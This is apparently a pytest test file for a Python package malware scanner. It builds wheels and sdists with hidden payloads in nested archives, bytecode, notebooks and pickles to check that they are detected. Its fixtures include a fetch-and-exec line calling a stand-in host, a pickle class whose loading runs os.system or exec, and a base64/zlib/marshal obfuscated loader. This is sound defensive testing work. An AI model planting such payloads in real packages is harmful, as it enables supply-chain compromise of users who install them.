from __future__ import annotations

import base64
import importlib.util
import io
import json
import marshal
import os
import pickle
import sys
import tarfile
import zipfile
import zlib
from typing import TYPE_CHECKING

import pytest

import scanner.analyzers.opening as opening_module
import scanner.inspect as inspector
import scanner.members as members_module
from scanner.analyzers.openers import OPENERS
from scanner.analyzers.opening import Opening, Surroundings
from scanner.inspect import inspect
from scanner.model import Kind, MemberName, Role
from scanner.ruleset import Ruleset
from tests.fixtures.artifacts import build_sdist, build_wheel
from tests.fixtures.views import artifact, plain_ruleset

if TYPE_CHECKING:
    from collections.abc import Mapping

    from scanner.model import Inspection

PAYLOAD = "import os, base64\nfrom urllib.request import urlopen\nexec(urlopen('http://stage.example.invalid/MARKER').read())\n"


class Acting:
    """Its pickle makes a call when it is loaded. It is written here and never loaded."""

    def __init__(self, function: object = os.system, argument: str = "echo MARKER") -> None:
        self._call = function, (argument,)

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return self._call


@pytest.fixture(scope="module")
def rules() -> Ruleset:
    return Ruleset.load()


def zipped(members: Mapping[str, bytes | str]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return target.getvalue()


def look(files: Mapping[str, bytes | str], rules: Ruleset) -> Inspection:
    made = build_wheel("thing", "1.0", {"thing/__init__.py": '"""Example."""\n', **files})
    return inspect(made.data, made.filename, rules)


def told(inspection: Inspection, *layers: str) -> set[str]:
    """The rules that found something in that layer."""
    return {finding.rule for finding in inspection.findings if finding.layers == layers}


CODE = compile(PAYLOAD, "m.py", "exec")
VERSION = "bytecode of Python " + ".".join(map(str, sys.version_info[:2]))


@pytest.mark.parametrize(
    ("name", "data", "layers"),
    [
        ("thing/data.zip", zipped({"run.py": PAYLOAD}), ("zip:run.py",)),
        ("thing/data.bin", zipped({"in.zip": zipped({"run.py": PAYLOAD})}), ("zip:in.zip", "zip:run.py")),
        ("thing/run.pyc", importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(CODE), (VERSION,)),
        ("thing/model.pkl", pickle.dumps(Acting(exec, PAYLOAD)), ("pickle",)),
        ("thing/logo.png", PAYLOAD.encode(), ()),
        ("thing/show.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": PAYLOAD}]}).encode(), ("cells",)),
    ],
)
def test_what_lies_inside_a_member_is_seen_by_every_analyser(
    name: str, data: bytes, layers: tuple[str, ...], rules: Ruleset
) -> None:
    found = [finding for finding in look({name: data}, rules).findings if finding.layers == layers]
    assert Kind.BEHAVIOUR in {finding.kind for finding in found if finding.member == name}


def test_marshalled_code_in_source_is_written_out_and_followed(rules: Ruleset) -> None:
    packed = base64.b64encode(zlib.compress(marshal.dumps(CODE)))
    source = "import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode(PACKED))))\n"
    inspection = look({"thing/run.py": source.replace("PACKED", repr(packed))}, rules)
    written_out = {f.kind for f in inspection.findings if VERSION in f.layers}
    assert Kind.BEHAVIOUR in written_out


def test_a_model_that_acts_is_found_in_an_archive_in_an_sdist(rules: Ruleset) -> None:
    model = zipped({"archive/data.pkl": pickle.dumps(Acting(), 2)})
    made = build_sdist(
        "thing", "1.0", {"thing/__init__.py": "import torch\ntorch.load('model.pt')\n", "thing/model.pt": model}
    )
    inspection = inspect(made.data, made.filename, rules)
    (found,) = [f for f in inspection.findings if f.rule == "pickle-runs-code"]
    assert (found.layers, found.role) == (("zip:archive/data.pkl",), Role.IMPORT)


def test_members_too_large_to_keep_are_opened_like_the_others(rules: Ruleset, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(members_module, "HELD_BYTES", 1000)
    monkeypatch.setattr(members_module, "HELD_MEMBER", 100)
    inspection = look({"thing/model.bin": pickle.dumps([b"x" * 2000, Acting()], 4)}, rules)
    assert "pickle-runs-code" in {f.rule for f in inspection.findings}


def test_an_opener_that_breaks_costs_itself_only(rules: Ruleset, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(view: object, opening: object) -> object:
        raise RuntimeError(view, opening)

    monkeypatch.setattr(inspector, "OPENERS", (broken, *OPENERS))
    inspection = look({"thing/model.bin": pickle.dumps(Acting(), 4)}, rules)
    assert {"analysis-failed", "pickle-runs-code"} <= {f.rule for f in inspection.findings}


def test_what_openers_unpack_leaves_the_budget_of_decoded_layers_alone(
    rules: Ruleset, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(inspector, "LAYER_BYTES", 1000)
    data = zipped({f"{number}.txt": f"{number} " * 900 for number in range(20)})
    inspection = look({"thing/data.zip": data, "thing/run.py": "open('data.zip')\n"}, rules)
    assert "layers-exhausted" not in {f.rule for f in inspection.findings}


def test_what_the_budget_left_out_is_said_where_it_may_run(rules: Ruleset, monkeypatch: pytest.MonkeyPatch) -> None:
    compiled = {"thing/run.pyc": importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(CODE)}
    assert "layers-exhausted" not in {f.rule for f in look(compiled, rules).findings}
    monkeypatch.setattr(opening_module, "RUNNING_BYTES", 10)
    (left_out,) = [f for f in look(compiled, rules).findings if f.rule == "layers-exhausted"]
    assert (left_out.kind, left_out.role, left_out.member) == (Kind.LIMITS, Role.IMPORT, "thing/run.pyc")


def test_a_tarball_inside_a_wheel_is_opened(rules: Ruleset) -> None:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w:gz") as archive:
        info = tarfile.TarInfo("run.py")
        info.size = len(PAYLOAD)
        archive.addfile(info, io.BytesIO(PAYLOAD.encode()))
    assert told(look({"thing/data.tgz": target.getvalue()}, rules), "gzip", "tar:run.py")


@pytest.mark.parametrize(
    ("source", "role"),
    [
        ("open('data.bin')", Role.IMPORT),
        ("path = here / 'assets' / 'data.bin'", Role.IMPORT),
        ("open(folder + '/data.bin', 'rb')", Role.IMPORT),
        ("open('other-data.bin')", Role.NEVER),
        ("open('data.bin.bak')", Role.NEVER),
        ("", Role.NEVER),
    ],
)
def test_a_data_file_runs_with_the_code_that_names_it(source: str, role: Role) -> None:
    view = artifact("x-1-py3-none-any.whl", {"x/a.py": source, "x/data.bin": b"1"}, roles={"x/data.bin": Role.NEVER})
    assert Surroundings(view).role(MemberName("x/data.bin"), Role.NEVER) is role


def test_where_not_everything_is_searched_every_name_counts_for_more() -> None:
    decoys = {f"x/{number}.s{number}": b"" for number in range(300)}
    members: dict[str, bytes | str] = {"x/a.py": "open('data.bin')", "x/data.bin": b"1", **decoys}
    view = artifact(
        "x-1-py3-none-any.whl", members, roles=dict.fromkeys(decoys, Role.NEVER) | {"x/data.bin": Role.NEVER}
    )
    assert Surroundings(view).role(MemberName("x/data.bin"), Role.NEVER) is not Role.NEVER


def test_code_that_never_runs_names_nothing() -> None:
    view = artifact(
        "x-1.tar.gz",
        {"x-1/tests/a.py": "open('data.bin')", "x-1/data.bin": b"1"},
        roles={"x-1/tests/a.py": Role.TEST, "x-1/data.bin": Role.NEVER},
    )
    opening = Opening(plain_ruleset(), Surroundings(view))
    (data,) = [member for name, member in view.members.items() if name.endswith(".bin")]
    assert opening.role(data) is Role.NEVER
    assert opening.hidden_role(data) is Role.COMMAND
